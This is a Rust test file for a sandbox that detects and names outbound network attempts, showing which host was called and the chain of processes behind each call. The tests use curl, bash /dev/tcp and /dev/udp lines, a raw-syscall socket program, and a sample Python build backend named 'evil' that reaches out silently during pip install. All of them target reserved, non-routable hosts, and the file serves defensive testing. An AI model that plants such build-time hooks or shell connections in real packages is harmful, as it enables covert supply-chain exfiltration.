//! Whoever reaches out is named, with the chain of processes that led to it and the name that was asked.

use std::process::Command;

use serde_json::Value;

use crate::harness::{Place, Said, can_cut, hostile, pip};
use crate::requires;

fn attempts(said: &Said) -> &[Value] {
    said.certificate["attempts"].as_array().map(Vec::as_slice).unwrap_or_default()
}

/// The first words of each process of a chain, without directories.
fn chain(attempt: &Value) -> Vec<String> {
    let processes = attempt["chain"].as_array().unwrap().iter().map(|process| process.as_str().unwrap());
    let name = |process: &str| process.split(' ').next().unwrap().rsplit('/').next().unwrap().to_owned();
    processes.map(name).collect()
}

// Contract: never-a-false-pass
#[test]
fn every_kind_of_program_is_named() {
    if !can_cut() {
        return;
    }
    let cases: [(&str, &[&str], &str, &[&str]); 9] = [
        ("node", &["-e", "fetch('http://fetch.invalid/').catch(() => {})"], "fetch.invalid", &["node"]),
        ("node", &["-e", "require('dns').resolve4('ares.invalid', () => {})"], "ares.invalid", &["node"]),
        ("curl", &["-s", "http://curl.invalid/"], "curl.invalid", &["curl"]),
        ("curl", &["-s", "https://192.0.2.6:8443/"], "192.0.2.6:8443", &["curl"]),
        ("git", &["clone", "-q", "https://git.invalid/x"], "git.invalid", &["git-remote-https", "git", "git"]),
        ("git", &["clone", "-q", "git://192.0.2.8/x"], "192.0.2.8:9418", &["git"]),
        ("bash", &["-c", "(exec 3<>/dev/tcp/bash.invalid/80); true"], "bash.invalid", &["bash", "bash"]),
        ("bash", &["-c", "echo >/dev/udp/192.0.2.9/514; true"], "192.0.2.9:514", &["bash"]),
        (
            "python3",
            &["-c", "import urllib.request as r; r.urlopen('https://python.invalid/')"],
            "python.invalid",
            &["python3"],
        ),
    ];
    for (program, arguments, place, processes) in cases {
        if !requires::program(program) {
            continue;
        }
        let said = Place::new().verify(&[&[program], arguments].concat());
        assert_eq!(said.verdict(), (Some(1), "FAIL"), "{arguments:?}");
        let [attempt] = attempts(&said) else { panic!("{arguments:?}: {said:?}") };
        let named = attempt["host"].as_str().or(attempt["addr"].as_str());
        assert_eq!((named, chain(attempt).as_slice() == processes), (Some(place), true), "{attempt}");
        let source = attempt["host"].is_string().then_some("dns-query");
        assert_eq!((attempt["host_source"].as_str(), attempt["wanted"].as_str()), (source, None), "{attempt}");
        assert!(attempt["count"].as_u64() >= Some(1) && attempt["seconds"].is_number(), "{attempt}");
    }
}

// Contract: never-a-false-pass
#[test]
fn static_and_32_bit_programs_are_named() {
    if !can_cut() {
        return;
    }
    let Some(program) = hostile() else { return };
    let said = Place::new().verify(&["sh", "-c", &format!("{program} connect 192.0.2.1 80; true")]);
    assert_eq!((attempts(&said)[0]["addr"].as_str(), chain(&attempts(&said)[0]).len()), (Some("192.0.2.1:80"), 2));
    // What the C compiler of a 64-bit machine makes without any library.
    let source = "static int call(int n, int a, int b, int c) { int r;\
        __asm__ volatile(\"int $0x80\" : \"=a\"(r) : \"a\"(n), \"b\"(a), \"c\"(b), \"d\"(c) : \"memory\"); return r; }\n\
        void _start(void) { static struct { unsigned short family, port; unsigned address; char rest[8]; } \
        to = {2, 0x5000, 0x0a0200c0};\n\
        call(362, call(359, 2, 1, 0), (int)&to, 16); call(1, 7, 0, 0); }\n";
    let place = Place::new();
    let source = place.write("narrow.c", source);
    let options = ["-m32", "-O1", "-nostdlib", "-static", "-fno-pic", "-no-pie", "-fno-stack-protector", "-o"];
    let out = place.path().join("narrow");
    let built = Command::new("cc").args(options).arg(&out).arg(source).output().is_ok_and(|out| out.status.success());
    if !requires::met("no compiler for 32 bits", built && cfg!(target_arch = "x86_64")) {
        return;
    }
    let said = place.verify(&[out.to_str().unwrap()]);
    if !requires::met("the kernel runs no 32-bit programs", said.certificate["command"]["exit_code"] == 7) {
        return;
    }
    assert_eq!(
        (attempts(&said)[0]["addr"].as_str(), attempts(&said)[0]["tool"].as_str()),
        (Some("192.0.2.10:80"), Some("narrow"))
    );
    assert_eq!(chain(&attempts(&said)[0]), ["narrow"]);
}

/// apt takes what it has where it cannot have more, and calls that a success.
// Contract: never-a-false-pass
#[test]
fn an_apt_that_succeeds_without_the_network_has_tried_it() {
    if !can_cut() || !requires::program("apt-get") {
        return;
    }
    let place = Place::new();
    for directory in ["state/lists/partial", "cache/archives/partial"] {
        std::fs::create_dir_all(place.path().join(directory)).unwrap();
    }
    let sources = place.write("sources.list", "deb [trusted=yes] http://index.invalid/debian stable main\n");
    let option = |name: &str, value: &std::path::Path| format!("{name}={}", value.display());
    let options = [
        option("Dir::Etc::SourceList", &sources),
        option("Dir::Etc::SourceParts", "/dev/null".as_ref()),
        option("Dir::State", &place.path().join("state")),
        option("Dir::Cache", &place.path().join("cache")),
        "APT::Sandbox::User=root".to_owned(),
        "Acquire::EnableSrvRecords=false".to_owned(),
    ];
    let options: Vec<&str> = options.iter().flat_map(|option| ["-o", option]).collect();
    let said = place.verify(&[&["apt-get"], &options[..], &["update"]].concat());
    assert_eq!(said.certificate["command"]["exit_code"], 0, "{said:?}");
    assert_eq!(said.verdict(), (Some(1), "FAIL"), "{said:?}");
    let attempt = &attempts(&said)[0];
    assert_eq!(
        (attempt["host"].as_str(), attempt["tool"].as_str()),
        (Some("index.invalid"), Some("apt-get")),
        "{attempt}"
    );
}

/// A source distribution that reaches out while it is built, from a wheelhouse: pip says nothing of it.
// Contract: never-a-false-pass
#[test]
fn what_a_build_backend_tries_is_traced_to_its_pip() {
    let Some(bin) = pip().filter(|_| can_cut()) else { return };
    let place = Place::new();
    let project = place.path().join("evil-1.0");
    std::fs::create_dir(&project).unwrap();
    let backend = "import os, urllib.request\n\
        def reach():\n\
        \x20   try: urllib.request.urlopen('http://backend.invalid/')\n\
        \x20   except OSError: pass\n\
        \x20   os.system(\"bash -c 'exec 3<>/dev/tcp/192.0.2.11/80' 2>/dev/null\")\n\
        def build_wheel(directory, settings=None, metadata=None):\n\
        \x20   import zipfile\n\
        \x20   reach()\n\
        \x20   name = 'evil-1.0-py3-none-any.whl'\n\
        \x20   with zipfile.ZipFile(os.path.join(directory, name), 'w') as wheel:\n\
        \x20       wheel.writestr('evil.py', '')\n\
        \x20       wheel.writestr('evil-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n')\n\
        \x20       wheel.writestr('evil-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
        \x20       wheel.writestr('evil-1.0.dist-info/RECORD', '')\n\
        \x20   return name\n";
    std::fs::write(project.join("backend.py"), backend).unwrap();
    std::fs::write(
        project.join("pyproject.toml"),
        "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['.']\n[project]\nname = 'evil'\nversion = '1.0'\n",
    )
    .unwrap();
    std::fs::write(project.join("PKG-INFO"), "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n").unwrap();
    std::fs::create_dir(place.path().join("wheelhouse")).unwrap();
    let packed = place.command("tar").args(["czf", "wheelhouse/evil-1.0.tar.gz", "evil-1.0"]).status().unwrap();
    assert!(packed.success());
    let program = bin.join("pip").display().to_string();
    let install = [program.as_str(), "install", "--target=target", "--no-index", "--find-links=wheelhouse", "evil"];
    let said = place.verify(&install);
    assert_eq!(said.certificate["command"]["exit_code"], 0, "{said:?}");
    assert_eq!(said.verdict(), (Some(1), "FAIL"), "{said:?}");
    let found: Vec<(&str, &str)> = attempts(&said)
        .iter()
        .map(|one| (one["host"].as_str().or(one["addr"].as_str()).unwrap(), one["tool"].as_str().unwrap()))
        .collect();
    assert_eq!(found, [("backend.invalid", "pip"), ("192.0.2.11:80", "pip")], "{said:?}");
    let last = &attempts(&said)[1];
    assert!(last["invocation"].is_string() && chain(last).contains(&"bash".to_owned()), "{last}");
    assert!(last["chain"].to_string().contains("build_wheel") && last["chain"].to_string().contains("evil"), "{last}");
    assert!(!said.stdout.contains("backend.invalid"), "pip did not say it");
}
